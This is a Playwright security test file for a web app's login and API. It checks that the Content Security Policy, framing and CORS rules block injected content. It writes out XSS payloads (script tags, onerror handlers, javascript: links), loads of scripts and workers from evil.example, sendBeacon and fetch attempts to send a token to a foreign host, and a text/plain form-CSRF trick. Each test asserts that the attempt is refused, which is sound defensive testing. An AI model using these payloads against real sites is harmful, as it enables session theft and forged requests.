import type { Page } from '@playwright/test';
import { serveForeignSite } from '../support/serveForeignSite.ts';
import { expect, test } from './served.ts';

test.use({ mayViolate: true });

/** Opens the login as it would come from a server that lets somebody write HTML into its pages; the policy is its own. */
async function openWith(page: Page, address: string, attack: string) {
  await page.route(`${address}/auth/login`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', `${attack}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto(`${address}/auth/login`);
  await expect(page.getByRole('heading', { name: 'Welcome Back!' })).toBeVisible();
}

const taken = (page: Page) => page.evaluate(() => Reflect.get(globalThis, 'taken') ?? null);
const take = "globalThis.taken = 'yes'";

const injected = [
  ['a script', `<script>${take}</script>`, /^script-src-elem inline/],
  ['a script with a nonce of its own', `<script nonce="AAAA">${take}</script>`, /^script-src-elem inline/],
  ['a handler', `<img src="data:," onerror="${take}">`, /^script-src-attr inline/],
  ['a script of data', `<script src="data:text/javascript,${take}"></script>`, /^script-src-elem data/],
  [
    'a frame with a script',
    `<iframe srcdoc="<script>parent.${take}</script>"></iframe>`,
    /^script-src-elem inline/,
  ],
  ['a style', '<style>body { display: none }</style>', /^style-src-elem inline/],
  ['a plug-in', '<object data="/favicon.svg"></object>', /^object-src/],
  ['another base of all addresses', '<base href="https://evil.example/">', /^base-uri/],
] as const;

// @control:SEC-04
for (const [name, html, violation] of injected)
  test(`${name} that was written into a page is refused`, async ({ page, server, violations }) => {
    await openWith(page, server.url, html);
    await expect.poll(() => violations).toContainEqual(expect.stringMatching(violation));
    expect(await taken(page)).toBeNull();
  });

// @control:SEC-04
test('a script, a frame and a style of another site are refused before they are fetched', async ({
  page,
  server,
  violations,
}) => {
  const evil = await serveForeignSite('');
  const address = `${evil.url}/attack.js`;
  await openWith(
    page,
    server.url,
    `<script src="${address}"></script><iframe src="${evil.url}/frame"></iframe><link rel="stylesheet" href="${evil.url}/a.css">`,
  );
  for (const directive of ['script-src-elem', 'frame-src', 'style-src-elem'])
    await expect.poll(() => violations).toContainEqual(expect.stringContaining(`${directive} ${evil.url}`));
  expect(await taken(page)).toBeNull();
  expect(evil.asked).toEqual([]);
  await evil.close();
});

// @control:SEC-04
test('a link that is a script, and a form to elsewhere, lead nowhere', async ({
  page,
  server,
  violations,
}) => {
  const evil = await serveForeignSite('');
  await openWith(
    page,
    server.url,
    `<a id="attack" href="javascript:${take.replaceAll(' ', '')}">x</a>` +
      `<form action="${evil.url}/keep"><input name="password" value="secret"><button id="send">x</button></form>`,
  );
  await page.locator('#attack').dispatchEvent('click');
  await expect.poll(() => violations).toContainEqual(expect.stringMatching(/^script-src-elem inline/));
  await page.locator('#send').dispatchEvent('click');
  await expect.poll(() => violations).toContainEqual(expect.stringMatching(/^form-action/));
  expect(await taken(page)).toBeNull();
  expect(evil.asked).toEqual([]);
  await evil.close();
});

/** What somebody would try whose code runs already, as if one of our own files had been changed. */
const sinks = {
  innerHTML: "document.body.innerHTML = '<img src=x onerror=1>'",
  outerHTML: "document.body.firstElementChild.outerHTML = '<b>x</b>'",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
  'document.write': "document.write('<b>x</b>')",
  srcdoc: "document.createElement('iframe').srcdoc = '<b>x</b>'",
  DOMParser: "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
  'a script in words': "document.createElement('script').textContent = '1'",
  'a script by address': "document.createElement('script').src = 'https://evil.example/a.js'",
  'a worker by address': "new Worker('https://evil.example/a.js')",
  eval: "eval('1')",
  Function: "new Function('1')",
  'a policy of one’s own': "trustedTypes.createPolicy('evil', { createHTML: (html) => html })",
};

// @control:SEC-04
test('code of our own origin reaches no sink: innerHTML, document.write, eval, foreign workers', async ({
  page,
  server,
}) => {
  const tries = Object.entries(sinks).map(
    ([name, code]) =>
      `try { ${code}; reached.push(${JSON.stringify(name)}) } catch { refused.push(${JSON.stringify(name)}) }`,
  );
  await page.route('**/attack.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `const reached = [], refused = []; ${tries.join('\n')}; globalThis.outcome = { reached, refused };`,
    }),
  );
  await openWith(page, server.url, '<script src="/attack.js"></script>');
  await expect.poll(() => page.evaluate(() => Reflect.get(globalThis, 'outcome') !== undefined)).toBe(true);
  const outcome = await page.evaluate(() => Reflect.get(globalThis, 'outcome'));
  expect(outcome).toEqual({ reached: [], refused: Object.keys(sinks) });
});

// @control:SEC-04
test('what a page knows cannot be sent elsewhere', async ({ page, server, violations }) => {
  const evil = await serveForeignSite('');
  await page.goto(`${server.url}/auth/login`);
  const outcome = await page.evaluate(async (address) => {
    const beacon = navigator.sendBeacon(`${address}/beacon`, 'token');
    const fetched = await fetch(`${address}/fetch?token`).then(
      () => 'sent',
      () => 'refused',
    );
    return { beacon, fetched };
  }, evil.url);
  expect(outcome.fetched).toBe('refused');
  await expect
    .poll(() => violations.filter((text) => text.startsWith(`connect-src ${evil.url}`)))
    .toHaveLength(2);
  expect(evil.asked).toEqual([]);
  await evil.close();
});

// @control:SEC-19
test('no page can be framed by another site', async ({ page, server }) => {
  for (const path of ['/', '/auth/login', '/account', '/nowhere', '/api/games/top']) {
    const evil = await serveForeignSite(`<h1>Win!</h1><iframe src="${server.url}${path}"></iframe>`);
    await page.goto(evil.url);
    await expect(page.getByRole('heading', { name: 'Win!' })).toBeVisible();
    await expect.poll(() => page.frames()[1]?.url(), path).toMatch(/^chrome-error:/);
    await evil.close();
  }
});

// @control:SEC-19
test('another site cannot write with what a browser sends by itself: forms, and fetch without asking', async ({
  page,
  server,
}) => {
  const body = JSON.stringify({ email: 'eve@example.com', username: 'eve', password: 'correct1!' });
  const field = `${body.slice(0, -1)},"recaptchaToken":"`;
  const evil = await serveForeignSite(
    `<form method="post" enctype="text/plain" action="${server.url}/api/auth/register"><input name='${field}' value='"}'><button>Win</button></form>`,
  );
  await page.goto(evil.url);
  const answers = await page.evaluate(
    async ({ address, json }) => {
      const outcome = (request: Promise<Response>) =>
        request.then(
          ({ type }) => type,
          () => 'refused',
        );
      return {
        opaque: await outcome(
          fetch(`${address}/api/auth/register`, {
            method: 'POST',
            mode: 'no-cors',
            credentials: 'include',
            body: json,
          }),
        ),
        asked: await outcome(
          fetch(`${address}/api/profile`, {
            method: 'PATCH',
            headers: { 'content-type': 'application/json', authorization: 'Bearer a.b.c' },
            body: json,
          }),
        ),
        read: await outcome(fetch(`${address}/api/profile`, { headers: { authorization: 'Bearer a.b.c' } })),
        open: await outcome(fetch(`${address}/api/games/search?query=portal`)),
      };
    },
    { address: server.url, json: body },
  );
  expect(answers).toEqual({ opaque: 'opaque', asked: 'refused', read: 'refused', open: 'cors' });
  const [answer] = await Promise.all([
    page.waitForResponse(`${server.url}/api/auth/register`),
    page.getByRole('button', { name: 'Win' }).click(),
  ]);
  expect(answer.status()).toBe(415);
  expect(server.mailedLinks()).toEqual([]);
  await evil.close();
});
